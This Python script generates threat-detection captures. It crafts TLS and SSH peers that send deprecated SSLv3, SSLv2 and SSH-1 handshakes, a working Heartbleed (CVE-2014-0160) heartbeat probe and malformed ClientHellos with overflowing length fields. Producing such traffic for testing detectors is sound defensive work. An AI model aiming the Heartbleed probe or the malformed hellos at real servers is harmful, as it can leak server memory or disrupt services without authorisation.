#!/usr/bin/env python3
"""Crafted TLS and SSH peers for the threat captures (`make-tls-ssh.sh` runs them in network
namespaces it creates; nothing here sends to other addresses than the ones it is given).

Each subcommand is one side of one connection over a real TCP socket:

  sslv3-client HOST PORT          ClientHello offering SSL 3.0 as highest (record and hello 0x0300)
  sslv3-server PORT CERT.der      answers a ClientHello with an SSL 3.0 ServerHello, the
                                  certificate and ServerHelloDone
  sslv2-client HOST PORT VERSION  SSLv2-format CLIENT-HELLO (2-byte header) offering VERSION
                                  (0x0002: SSL 2.0; 0x0301: TLS 1.0 in the SSLv2 format)
  heartbleed HOST PORT            TLS 1.1 handshake up to ServerHelloDone with the heartbeat
                                  extension, then a heartbeat request claiming 16384 payload bytes
                                  in a 3-byte record (CVE-2014-0160, the published scanners' form)
  overflow HOST PORT KIND         a malformed first flight: KIND `ciphers` (cipher_suites length
                                  past the ClientHello), `record` (a ClientHello record of 65535
                                  bytes, over 2^14 + 2048), `sslv2` (SSLv2 CLIENT-HELLO whose
                                  cipher_spec_length runs past the record)
  ssh1-server PORT IDENT          sends IDENT, reads the client's identification; for a 1.x
                                  client, an SSH-1 PUBLIC_KEY packet, then one more packet after
                                  the client's SESSION_KEY
  ssh1-client HOST PORT IDENT     reads the server's identification, sends IDENT, reads a packet,
                                  sends an SSH-1 SESSION_KEY packet, reads one more
"""
import os
import socket
import struct
import sys
import time


def record(ctype, version, body):
    return struct.pack(">BHH", ctype, version, len(body)) + body


def handshake(htype, body):
    return bytes([htype]) + struct.pack(">I", len(body))[1:] + body


def client_hello(version, ciphers, exts=None, sid=b""):
    cs = b"".join(struct.pack(">H", c) for c in ciphers)
    body = struct.pack(">H", version) + os.urandom(32) + bytes([len(sid)]) + sid
    body += struct.pack(">H", len(cs)) + cs + b"\x01\x00"
    if exts is not None:
        body += struct.pack(">H", len(exts)) + exts
    return handshake(1, body)


def ext(etype, data):
    return struct.pack(">HH", etype, len(data)) + data


def connect(host, port):
    s = socket.create_connection((host, int(port)), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def drain(s, seconds=1.0):
    """Reads until the peer closes or `seconds` pass; returns what came."""
    s.settimeout(0.2)
    out = b""
    end = time.time() + seconds
    while time.time() < end:
        try:
            d = s.recv(65536)
        except socket.timeout:
            continue
        except ConnectionResetError:
            break
        if not d:
            break
        out += d
    return out


def read_records_until(s, done):
    """Reads TLS records until `done(type, body)` is true or the peer stops."""
    buf = b""
    s.settimeout(3)
    while True:
        while len(buf) >= 5:
            t, _, n = struct.unpack(">BHH", buf[:5])
            if len(buf) < 5 + n:
                break
            body, buf = buf[5 : 5 + n], buf[5 + n :]
            if done(t, body):
                return True
            if t == 21:
                return False
        d = s.recv(65536)
        if not d:
            return False
        buf += d


def sslv3_client(host, port):
    s = connect(host, port)
    s.sendall(record(22, 0x0300, client_hello(0x0300, [0x002F, 0x0035, 0x000A, 0x00FF])))
    drain(s, 1.5)
    s.close()


def sslv3_server(port, cert_der):
    cert = open(cert_der, "rb").read()
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", int(port)))
    ls.listen(1)
    c, _ = ls.accept()
    c.settimeout(5)
    c.recv(65536)
    sh = struct.pack(">H", 0x0300) + os.urandom(32) + b"\x20" + os.urandom(32) + struct.pack(">HB", 0x002F, 0)
    certs = struct.pack(">I", len(cert))[1:] + cert
    flight = handshake(2, sh) + handshake(11, struct.pack(">I", len(certs))[1:] + certs) + handshake(14, b"")
    c.sendall(record(22, 0x0300, flight))
    drain(c, 2)
    c.close()


def sslv2_hello(version, ciphers, challenge=None, cipher_len=None):
    specs = b"".join(struct.pack(">I", c)[1:] for c in ciphers)
    challenge = challenge if challenge is not None else os.urandom(16)
    cl = len(specs) if cipher_len is None else cipher_len
    body = bytes([1]) + struct.pack(">HHHH", version, cl, 0, len(challenge)) + specs + challenge
    return struct.pack(">H", 0x8000 | len(body)) + body


# SSLv2 cipher kinds (SSL_CK_RC4_128_WITH_MD5, SSL_CK_DES_192_EDE3_CBC_WITH_MD5) and, for the
# version-3-compatible form, TLS suites as 0x00XXXX (RFC 5246 E.2).
V2_CIPHERS = [0x010080, 0x0700C0]
V3_IN_V2 = [0x00002F, 0x000035, 0x00000A, 0x0000FF]


def sslv2_client(host, port, version):
    version = int(version, 16)
    s = connect(host, port)
    ciphers = V2_CIPHERS + V3_IN_V2 if version != 0x0002 else V2_CIPHERS
    s.sendall(sslv2_hello(version, ciphers))
    drain(s, 1.5)
    s.close()


def heartbleed(host, port):
    s = connect(host, port)
    exts = ext(0x000F, b"\x01") + ext(0xFF01, b"\x00")
    s.sendall(record(22, 0x0301, client_hello(0x0302, [0x002F, 0x0035, 0x000A], exts)))
    # Up to ServerHelloDone (handshake type 14), as the published scanners do.
    if not read_records_until(s, lambda t, b: t == 22 and b"\x0e\x00\x00\x00" in b):
        sys.exit("no ServerHelloDone")
    s.sendall(bytes.fromhex("180302000301" "4000"))
    drain(s, 2)
    s.close()


def overflow(host, port, kind):
    s = connect(host, port)
    if kind == "ciphers":
        hello = bytearray(client_hello(0x0303, [0x002F, 0x0035, 0xC02F], ext(0xFF01, b"\x00")))
        # cipher_suites length (after type, length, version, random, session id) claims 0xfff0.
        at = 4 + 2 + 32 + 1
        hello[at : at + 2] = struct.pack(">H", 0xFFF0)
        s.sendall(record(22, 0x0301, bytes(hello)))
    elif kind == "record":
        hello = client_hello(0x0303, [0x002F, 0x0035, 0xC02F], ext(0xFF01, b"\x00"))
        s.sendall(struct.pack(">BHH", 22, 0x0301, 0xFFFF) + hello + os.urandom(2000))
    elif kind == "sslv2":
        s.sendall(sslv2_hello(0x0301, V2_CIPHERS + V3_IN_V2, cipher_len=0x0300))
    else:
        sys.exit("unknown kind " + kind)
    drain(s, 1.5)
    s.close()


# SSH-1 (protocol 1.5): packet = uint32 length (type + data + check), 8 - length % 8 bytes of
# padding, type, data, CRC-32 (no pre/post inversion) over padding, type and data.
def _crc_table():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        t.append(c)
    return t


CRC = _crc_table()


def ssh1_crc(b):
    c = 0
    for x in b:
        c = CRC[(c ^ x) & 0xFF] ^ (c >> 8)
    return c


def ssh1_packet(ptype, data):
    n = 1 + len(data) + 4
    pad = os.urandom(8 - n % 8)
    body = pad + bytes([ptype]) + data
    return struct.pack(">I", n) + body + struct.pack(">I", ssh1_crc(body))


def mpint1(bits):
    return struct.pack(">H", bits) + b"\x80" + os.urandom(bits // 8 - 1)


def read_line(s):
    out = b""
    while not out.endswith(b"\n"):
        d = s.recv(1)
        if not d:
            break
        out += d
    return out


def ssh1_server(port, ident):
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", int(port)))
    ls.listen(1)
    c, _ = ls.accept()
    c.settimeout(5)
    c.sendall(ident.encode() + b"\r\n")
    peer = read_line(c)
    if peer.startswith(b"SSH-1.") and not peer.startswith(b"SSH-1.99"):
        # SSH_SMSG_PUBLIC_KEY: cookie, server key, host key, protocol flags, ciphers, auths.
        data = os.urandom(8)
        e = struct.pack(">H", 17) + b"\x01\x00\x01"
        data += struct.pack(">I", 768) + e + mpint1(768)
        data += struct.pack(">I", 1024) + e + mpint1(1024)
        data += struct.pack(">III", 2, 0x48, 0x2C)
        c.sendall(ssh1_packet(2, data))
        drain(c, 0.5)
        # SSH_SMSG_SUCCESS (encrypted from here on: random bytes in a packet's framing).
        c.sendall(struct.pack(">I", 5) + os.urandom(8))
    drain(c, 1)
    c.close()


def ssh1_client(host, port, ident):
    s = connect(host, port)
    read_line(s)
    s.sendall(ident.encode() + b"\r\n")
    s.settimeout(3)
    s.recv(65536)
    # SSH_CMSG_SESSION_KEY: cipher (3DES), the server's cookie, the encrypted session key, flags.
    data = bytes([3]) + os.urandom(8) + mpint1(1024) + struct.pack(">I", 2)
    s.sendall(ssh1_packet(3, data))
    drain(s, 1)
    s.close()


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    {
        "sslv3-client": sslv3_client,
        "sslv3-server": sslv3_server,
        "sslv2-client": sslv2_client,
        "heartbleed": heartbleed,
        "overflow": overflow,
        "ssh1-server": ssh1_server,
        "ssh1-client": ssh1_client,
    }[cmd](*args)


if __name__ == "__main__":
    main()
